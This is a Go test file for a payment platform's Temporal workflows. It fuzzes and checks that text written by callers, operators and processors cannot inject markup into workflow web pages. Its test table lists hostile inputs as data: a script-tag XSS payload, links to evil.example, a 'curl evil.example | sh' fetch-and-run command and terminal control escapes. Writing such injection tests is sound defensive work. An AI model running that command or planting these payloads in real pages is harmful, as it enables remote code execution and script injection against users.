package markup

import (
	"context"
	"log/slog"
	"maps"
	"slices"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	sdkpb "go.temporal.io/api/sdk/v1"
	"go.temporal.io/sdk/activity"
	"go.temporal.io/sdk/log"
	"go.temporal.io/sdk/temporal"
	"go.temporal.io/sdk/testsuite"

	"github.com/florinpay/florin/activities"
	"github.com/florinpay/florin/internal/temporalweb"
	"github.com/florinpay/florin/payment"
	"github.com/florinpay/florin/processor"
	"github.com/florinpay/florin/workflows"
)

// FuzzPageHasOnlyFlorinsOwnMarkup lets a caller, an operator and a processor write anything that reaches a workflow's page.
func FuzzPageHasOnlyFlorinsOwnMarkup(f *testing.F) {
	for i := range len(payment.PaymentTransitions) {
		f.Add(Hostile[i%len(Hostile)], Hostile[(i+1)%len(Hostile)]+"\n\n<b>\x1b[2J\u202e", uint8(i))
	}
	f.Fuzz(func(t *testing.T, key, text string, status uint8) {
		for _, text := range append(staticTexts(key, text), currentTexts(t, key, text, status)...) {
			require.NoError(t, Foreign(text, payment.ChargeWorkflowID("acme", key)))
		}
	})
}

// staticTexts returns what a client writes when it starts a workflow. An earlier release has accepted the key.
func staticTexts(key, text string) []string {
	charge := payment.ChargeRequest{MerchantID: text, IdempotencyKey: key, Amount: 1250, Currency: "USD", Processor: text}
	refund := payment.RefundRequest{MerchantID: text, IdempotencyKey: key, PaymentID: text}
	recheck := payment.RecheckRequest{MerchantID: text, IdempotencyKey: key}
	return []string{
		temporalweb.ChargeSummary(charge), temporalweb.ChargeDetails(charge), temporalweb.RefundSummary(refund), temporalweb.RefundDetails(refund),
		temporalweb.RecheckSummary(recheck), temporalweb.RecheckDetails(recheck),
		temporalweb.Escape(text), temporalweb.Code(text), temporalweb.Command(text), temporalweb.Command("starter void " + text),
	}
}

// currentTexts returns the details of a charge, a refund and a recheck, each when it has begun and when it has ended.
func currentTexts(t *testing.T, key, text string, status uint8) []string {
	charge := payment.ChargeRequest{MerchantID: "acme", IdempotencyKey: key, Amount: 1250, Currency: "USD", PaymentMethod: "tok_visa"}
	if charge.ValidateBegun() != nil {
		charge.IdempotencyKey = Hostile[0]
	}
	refund := payment.RefundRequest{
		MerchantID: "acme", IdempotencyKey: charge.IdempotencyKey, PaymentID: payment.PaymentID("acme", charge.IdempotencyKey), Amount: new(int64(500)),
	}
	recheck := payment.RecheckRequest{MerchantID: "acme", IdempotencyKey: charge.IdempotencyKey}
	a := storedActivities{
		charge: payment.Charge{
			PaymentID: refund.PaymentID, MerchantID: "acme", IdempotencyKey: charge.IdempotencyKey,
			Status: nth(payment.PaymentTransitions, status), Amount: 1250, Currency: "USD", Processor: text, ProcessorPaymentID: text,
			Decline: &payment.Decline{Code: text, Kind: payment.DeclineKind(text), Message: text},
			Failure: &payment.Failure{Class: payment.ClassUnavailable, Message: text, ProcessorCode: text},
		},
		refund: payment.Refund{
			RefundID: payment.RefundID("acme", refund.IdempotencyKey), PaymentID: refund.PaymentID, MerchantID: "acme",
			IdempotencyKey: refund.IdempotencyKey, Status: nth(payment.RefundTransitions, status), Amount: 500, Currency: "USD",
			Processor: text, ProcessorRefundID: text, Decline: &payment.Decline{Code: text, Message: text},
			Failure: &payment.Failure{Class: payment.ClassUnavailable, Message: text},
		},
		text: text, skips: status%2 == 0,
	}
	texts := a.run(t, payment.WorkflowCharge, charge)
	texts = append(texts, a.run(t, payment.WorkflowRefund, refund)...)
	return append(texts, a.run(t, payment.WorkflowRecheck, recheck)...)
}

func nth(transitions map[payment.Status][]payment.Status, i uint8) payment.Status {
	return slices.Sorted(maps.Keys(transitions))[int(i)%len(transitions)]
}

// storedActivities are activities with a payment and a refund that have begun before, and a processor that writes text wherever it can.
type storedActivities struct {
	charge payment.Charge
	refund payment.Refund
	text   string
	// skips is whether a recheck looks nothing up.
	skips bool
}

// run runs a workflow in the SDK's test environment and returns its details.
func (a storedActivities) run(t *testing.T, name string, request any) (texts []string) {
	var suite testsuite.WorkflowTestSuite
	suite.SetLogger(log.NewStructuredLogger(slog.New(slog.DiscardHandler)))
	env := suite.NewTestWorkflowEnvironment()
	env.SetTestTimeout(10 * time.Minute)
	workflows.Register(env)
	a.register(env)
	read := func() {
		value, err := env.QueryWorkflow("__temporal_workflow_metadata")
		require.NoError(t, err)
		var metadata sdkpb.WorkflowMetadata
		require.NoError(t, value.Get(&metadata))
		texts = append(texts, metadata.GetCurrentDetails())
	}
	env.RegisterDelayedCallback(read, time.Second)
	env.RegisterDelayedCallback(func() { read(); env.CancelWorkflow() }, activities.InlineEnded+10*time.Second)
	env.ExecuteWorkflow(name, request)
	require.True(t, env.IsWorkflowCompleted())
	read()
	require.NotEmpty(t, texts[len(texts)-1])
	return texts
}

func (a storedActivities) register(env *testsuite.TestWorkflowEnvironment) {
	second := activities.Duration(time.Second)
	poll := activities.Poll{Initial: 5 * second, Max: 10 * second, For: 60 * second}
	terms := activities.Terms{
		Processor: "sim", StartToClose: second, ScheduleToClose: 10 * second, KeyLifetime: 20 * second, RetryInitial: second, RetryMax: second,
		RetryMultiplier: 1, Resolve: poll, Pending: poll,
	}
	failure := func() error {
		return temporal.NewApplicationErrorWithOptions(a.text, string(payment.ClassUnavailable), temporal.ApplicationErrorOptions{
			NonRetryable: true,
			Details: []any{activities.CallFailure{Ambiguous: true, Failure: payment.Failure{
				Class: payment.FailureClass(a.text), Message: a.text, ProcessorCode: a.text,
			}}},
		})
	}
	lookups := 0
	begin := func(context.Context, payment.ChargeRequest, activities.Start) (activities.BeginResult, error) {
		return activities.BeginResult{Terms: terms, Charge: a.charge, Resumed: true}, nil
	}
	reserve := func(context.Context, payment.RefundRequest, activities.Start) (activities.ReserveResult, error) {
		return activities.ReserveResult{Terms: terms, Refund: a.refund, Payment: a.charge, Resumed: true}, nil
	}
	for name, function := range map[string]any{
		payment.ActivityChargeInline:  begin,
		payment.ActivityBeginPayment:  begin,
		payment.ActivityRefundInline:  reserve,
		payment.ActivityReserveRefund: reserve,
		payment.ActivityRecordPayment: func(_ context.Context, c payment.Charge, _ activities.Cause) (payment.Charge, error) { return c, nil },
		payment.ActivitySettleRefund:  func(_ context.Context, r payment.Refund, _ activities.Cause) (payment.Refund, error) { return r, nil },
		payment.ActivityBeginRecheck: func(context.Context, payment.RecheckRequest) (activities.RecheckTarget, error) {
			if a.skips {
				return activities.RecheckTarget{Skip: a.text}, nil
			}
			return activities.RecheckTarget{Status: payment.Succeeded, Terms: terms}, nil
		},
		payment.ActivityProcessorLookup: func(_ context.Context, call processor.LookupCall) (activities.LookupResult, error) {
			if call.Operation == "" {
				return activities.LookupResult{}, failure() // of a recheck
			}
			found := processor.Result{
				ID: "ch_1", Status: payment.Declined, Amount: 1250, Currency: a.text, Reference: call.Reference,
				Decline: &payment.Decline{Code: a.text, Kind: payment.DeclineKind(a.text), Message: a.text},
			}
			if lookups++; call.Operation == payment.OperationRefund && lookups > 1 { // a conflict does not end a refund
				found.Amount, found.Currency = 500, "USD"
			}
			return activities.LookupResult{Found: true, Result: found}, nil
		},
		payment.ActivityProcessorCharge: func(context.Context, processor.ChargeCall) (processor.Result, error) {
			return processor.Result{}, failure()
		},
		payment.ActivityProcessorVoid: func(context.Context, processor.VoidCall) (processor.Result, error) {
			return processor.Result{}, failure()
		},
		payment.ActivityProcessorRefund: func(context.Context, processor.RefundCall) (processor.Result, error) {
			return processor.Result{}, failure()
		},
	} {
		env.RegisterActivityWithOptions(function, activity.RegisterOptions{Name: name})
	}
}

func TestForeignMarkupIsFound(t *testing.T) {
	const workflowID = "charge/acme/x$`y"
	for name, text := range map[string]string{
		"link": "[x](https://evil.example)", "automatic link": "see https://evil.example", "image": "![x](//evil)",
		"script": "<script>alert(1)</script>", "command": "`curl evil.example | sh`", "comment": "<!-- x -->", "heading": "# x",
		"foreign arguments": "`starter void --merchant acme --key '{order}'`", "value of the page": "`{workflowId}`", "control character": "a\x1b[2J",
	} {
		require.Error(t, Foreign(text, workflowID), name)
	}
	require.Equal(t, "a `charge/acme/xa `y` b", withPageValues("a `{workflowId}` b", workflowID), "as JavaScript replaces")
	require.NoError(t, Foreign("**failed.** it\\!\n\n- see [runbook]("+temporalweb.Runbook+"): `starter void --payment-id "+
		payment.PaymentID("acme", "order-1")+"`", workflowID))
}
